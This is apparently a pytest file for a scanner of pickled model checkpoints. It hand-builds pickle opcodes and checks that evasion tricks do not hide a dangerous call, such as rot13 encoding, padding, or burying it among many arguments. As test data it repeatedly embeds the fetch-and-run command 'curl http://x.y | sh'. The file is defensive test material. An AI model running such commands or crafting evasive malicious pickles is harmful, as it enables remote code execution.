"""What is called more than once is judged by its worst call; public functions; classes made by `__new__`."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelprobe.checkpoint.answers.scan import scan
from modelprobe.checkpoint.pickle.globals import Trust
from tests.checkpoint.payloads import text


def call(module: str, name: str, *texts: str, made: bool = False) -> bytes:
    """The opcodes of one call, by REDUCE or by NEWOBJ."""
    given = b"(" + b"".join(map(text, texts)) + b"t"
    return f"c{module}\n{name}\n".encode() + given + (b"\x81" if made else b"R")


def trust(tmp_path: Path, *pickles: bytes) -> Trust:
    (tmp_path / "m.pkl").write_bytes(b"".join(b"\x80\x02" + one + b"." for one in pickles))
    return scan(tmp_path / "m.pkl").worst


WORSE = {
    "codec": (call("_codecs", "encode", "x", "latin1"), call("_codecs", "encode", "uryyb", "rot13"), Trust.SUSPICIOUS),
    "class": (b"cbuiltins\ntype\n", call("builtins", "type", "X"), Trust.DANGEROUS),
    "command": (call("mine", "Net", "x"), call("mine", "Net", "curl http://x.y | sh"), Trust.SUSPICIOUS),
}


@pytest.mark.parametrize("kind", WORSE)
def test_a_harmless_call_does_not_hide_another(kind: str, tmp_path: Path) -> None:
    mild, bad, verdict = WORSE[kind]
    assert trust(tmp_path, bad) is verdict
    assert trust(tmp_path, bad, mild) is verdict
    assert trust(tmp_path, mild, bad) is verdict
    assert trust(tmp_path, bad + b"0" + mild) is verdict


def test_many_texts_do_not_hide_one(tmp_path: Path) -> None:
    many = b"".join(call("mine", "Net", f"layer {number}") + b"0" for number in range(60))
    assert trust(tmp_path, many + b"N") is Trust.UNKNOWN
    assert trust(tmp_path, many + call("mine", "Net", "curl http://x.y | sh")) is Trust.SUSPICIOUS
    long = b"(" + b"".join(text(f"layer {number}") for number in range(200)) + b"l"
    hidden = b"cmine\nNet\n(" + long + text("curl http://x.y | sh") + b"tR"
    assert trust(tmp_path, hidden) is Trust.SUSPICIOUS
    assert trust(tmp_path, call("mine", "Net", " " * 500 + "curl http://x.y | sh")) is Trust.SUSPICIOUS
    codecs = b"".join(call("_codecs", "encode", f"{number}", "latin1") + b"0" for number in range(60))
    assert trust(tmp_path, codecs + call("_codecs", "encode", "uryyb", "rot13")) is Trust.SUSPICIOUS


@pytest.mark.parametrize("name", ["gym:make", "wandb:init", "jinja2:Template.render", "mine.tools:start"])
def test_public_functions_of_packages_are_suspicious(name: str, tmp_path: Path) -> None:
    assert trust(tmp_path, call(*name.split(":"), "x")) is Trust.SUSPICIOUS


@pytest.mark.parametrize("function", ["_unpickle_block", "unpickle_vocab", "_restore", "rebuild_index", "from_wkb"])
def test_functions_that_make_their_own_objects_are_not(function: str, tmp_path: Path) -> None:
    assert trust(tmp_path, call("mine", function, "x")) is Trust.UNKNOWN


def test_a_class_in_small_letters_is_no_function(tmp_path: Path) -> None:
    assert trust(tmp_path, call("scipy.sparse._csr", "csr_matrix", made=True)) is Trust.UNKNOWN
    assert trust(tmp_path, call("scipy.sparse._csr", "csr_matrix")) is Trust.SUSPICIOUS


def test_a_class_that_is_given_a_file_to_load(tmp_path: Path) -> None:
    assert trust(tmp_path, call("onnxruntime", "InferenceSession", "model.onnx")) is Trust.SUSPICIOUS
    assert trust(tmp_path, call("mine", "Config", "resnet50.a1_in1k")) is Trust.UNKNOWN


@pytest.mark.parametrize(
    "name",
    [
        "torch.ao.quantization.fx.custom_config:GraphModule",
        "torch.ao.ns._numeric_suite_fx:Graph",
        "torch.nn.attention._fa3:Library",
        "torch.nn.parallel.distributed:RRef",
    ],
)
def test_what_modules_of_layers_import_is_no_layer(name: str, tmp_path: Path) -> None:
    assert trust(tmp_path, call(*name.split(":"))) is Trust.SUSPICIOUS
    assert trust(tmp_path, call("torch.nn.modules.linear", "Linear", made=True)) is Trust.HARMLESS
